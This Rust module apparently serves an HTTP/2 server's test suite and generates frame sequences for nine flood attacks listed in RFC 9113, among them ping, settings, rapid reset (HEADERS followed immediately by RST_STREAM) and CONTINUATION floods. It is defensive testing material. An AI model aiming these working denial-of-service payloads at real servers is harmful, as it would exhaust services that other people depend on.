//! What attackers do with frames of HTTP/2 (RFC 9113 section 10.5).

use crate::http2::{
    CONTINUATION, DATA, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame,
    get_fields,
};

/// ENHANCE_YOUR_CALM (RFC 9113 section 7).
pub const CALM: u32 = 11;

/// Every flood by its name.
pub const FLOODS: [&str; 9] = [
    "ping",
    "settings",
    "priority",
    "window updates",
    "unknown",
    "rapid reset",
    "resets of ours",
    "empty data",
    "continuation",
];

/// What a flood sends, by the number of its turn. Requests are for `/never`, which nobody answers.
pub fn flood(name: &str) -> Box<dyn Fn(u32) -> Vec<u8> + Send> {
    let head = get_fields("/never");
    match name {
        "ping" => Box::new(|_| frame(PING, 0, 0, &[0; 8])),
        "settings" => Box::new(|_| frame(SETTINGS, 0, 0, &[])),
        "priority" => Box::new(|_| frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 0])),
        "window updates" => Box::new(|_| frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
        "unknown" => Box::new(|_| frame(0x77, 0, 0, &[])),
        // Each opens a stream and takes it back: the work is ours.
        "rapid reset" => Box::new(move |count| {
            let stream = count * 2 + 1;
            [frame(HEADERS, 0x5, stream, &head), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])]
                .concat()
        }),
        // The same, where it is we who reset, for a window that grows too large.
        "resets of ours" => Box::new(move |count| {
            let stream = count * 2 + 1;
            [
                frame(HEADERS, 0x4, stream, &head),
                frame(WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff]),
            ]
            .concat()
        }),
        "empty data" => Box::new(move |count| {
            let first = if count == 0 { frame(HEADERS, 0x4, 1, &head) } else { Vec::new() };
            [first, frame(DATA, 0, 1, &[])].concat()
        }),
        "continuation" => Box::new(move |count| {
            let first = if count == 0 { frame(HEADERS, 0, 1, &head) } else { Vec::new() };
            [first, frame(CONTINUATION, 0, 1, &[])].concat()
        }),
        _ => unreachable!("{name}"),
    }
}
